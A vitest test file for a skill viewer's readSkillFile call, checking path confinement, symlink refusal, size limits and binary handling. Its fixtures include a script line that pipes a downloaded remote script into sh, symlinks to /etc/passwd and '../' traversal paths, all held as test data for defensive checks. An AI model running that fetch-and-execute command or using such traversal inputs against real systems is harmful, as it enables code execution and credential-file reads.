import fs from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ErrorInfo, SkillFileContent } from '../contract/index.js';
import { ENGINE_MESSAGES } from '../contract/index.js';
import { makeWorld, writeSkill, type World } from '../../test/support/library.js';

// The skill drawer's read-only file viewer: readSkillFile by catalog entry id with the viewer's
// 512 KB limit, through the contract as every front door calls it. Reads stay inside the skill.

const VIEW_MAX = 512 * 1024;
let w: World;
beforeEach(() => {
  w = makeWorld();
});
afterEach(async () => {
  await w.done();
});

async function view(skill: string, p: string): Promise<SkillFileContent> {
  const r = await w.service.call('readSkillFile', { skill, path: p, maxBytes: VIEW_MAX });
  if (!r.ok) throw new Error(`${p}: ${r.error.message}`);
  return r.value as SkillFileContent;
}
async function refused(skill: string, p: string): Promise<ErrorInfo> {
  const r = await w.service.call('readSkillFile', { skill, path: p, maxBytes: VIEW_MAX });
  if (r.ok) throw new Error(`${p} was read: ${JSON.stringify(r.value).slice(0, 80)}`);
  return r.error;
}

/** A skill in Claude Code's user root (not the library: read-only), with every awkward file. */
function agentSkill(): string {
  const dir = writeSkill(path.join(w.userHome, '.claude', 'skills', 'tricky'), 'tricky', {
    'scripts/install.sh': '#!/bin/sh\ncurl -fsSL https://example.invalid/x.sh | sh\n',
    'docs/inside.md': '# inside\n',
  });
  fs.writeFileSync(path.join(w.src, 'secret.txt'), 'top secret');
  fs.symlinkSync('/etc/passwd', path.join(dir, 'passwd'));
  fs.symlinkSync(path.join(w.src, 'secret.txt'), path.join(dir, 'scripts', 'secret.sh'));
  fs.symlinkSync(w.src, path.join(dir, 'outside-dir'));
  fs.symlinkSync('docs/inside.md', path.join(dir, 'inside-link.md'));
  fs.writeFileSync(path.join(dir, 'big.log'), Buffer.alloc(VIEW_MAX + 1, 'a'));
  fs.writeFileSync(path.join(dir, 'exactly.log'), Buffer.alloc(VIEW_MAX, 'b'));
  fs.writeFileSync(path.join(dir, 'logo.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]));
  return dir;
}

describe('readSkillFile for the file viewer', () => {
  it('shows a script of an agent-root skill by entry id, read-only, with its hash and size', async () => {
    agentSkill();
    const f = await view('user:.claude/skills/tricky', 'scripts/install.sh');
    const script = '#!/bin/sh\ncurl -fsSL https://example.invalid/x.sh | sh\n';
    expect(f).toMatchObject({ path: 'scripts/install.sh', readOnly: true, size: script.length, content: script });
    expect(f.readOnlyReason?.key).toBe('editor.readonly.outside-library');
    // A link that stays inside the skill is followed.
    expect((await view('user:.claude/skills/tricky', 'inside-link.md')).content).toBe('# inside\n');
  });

  it('refuses links that leave the skill (/etc/passwd, a file and a folder elsewhere) and ../ paths', async () => {
    agentSkill();
    for (const [p, key] of [
      ['passwd', 'editor.path.link-outside'],
      ['scripts/secret.sh', 'editor.path.link-outside'],
      ['outside-dir/secret.txt', 'editor.path.link-outside'],
      ['../../../../etc/passwd', 'editor.path.dots'],
      ['scripts/../../tricky/SKILL.md', 'editor.path.dots'],
      ['/etc/passwd', 'editor.path.absolute'],
    ] as const) {
      const e = await refused('user:.claude/skills/tricky', p);
      expect({ p, code: e.code, key: e.msg?.key }).toEqual({ p, code: 'refused', key });
      expect(e.message).not.toContain('root:'); // nothing of the target's content leaks into the error
      expect(e.message).not.toContain('top secret');
    }
  });

  it('over 512 KB: not read, a keyed message with the sizes; exactly 512 KB is shown', async () => {
    agentSkill();
    const big = await view('user:.claude/skills/tricky', 'big.log');
    expect(big).toMatchObject({
      content: null,
      size: VIEW_MAX + 1,
      readOnlyReason: { key: 'viewer.too-large', params: { kb: 513, maxKb: 512 } },
    });
    expect(big.readOnlyReason!.key in ENGINE_MESSAGES).toBe(true);
    const exact = await view('user:.claude/skills/tricky', 'exactly.log');
    expect(exact.content).toHaveLength(VIEW_MAX);
  });

  it('a binary file is named binary, its bytes are not sent', async () => {
    agentSkill();
    const bin = await view('user:.claude/skills/tricky', 'logo.png');
    expect(bin).toMatchObject({ content: null, size: 12, readOnlyReason: { key: 'editor.readonly.binary' } });
  });

  it('a library skill by entry id, and a library skill that is a link to a folder elsewhere', async () => {
    writeSkill(path.join(w.home, 'library', 'mine'), 'mine', { 'scripts/run.sh': 'echo mine\n' });
    const outside = writeSkill(path.join(w.src, 'theirs'), 'theirs', { 'scripts/run.sh': 'echo theirs\n' });
    fs.symlinkSync(outside, path.join(w.home, 'library', 'theirs'));
    fs.symlinkSync('/etc/passwd', path.join(outside, 'passwd'));
    expect((await view('library/mine', 'scripts/run.sh')).content).toBe('echo mine\n');
    expect((await view('library/theirs', 'scripts/run.sh')).content).toBe('echo theirs\n');
    expect((await refused('library/theirs', 'passwd')).msg?.key).toBe('editor.path.link-outside');
  });
});
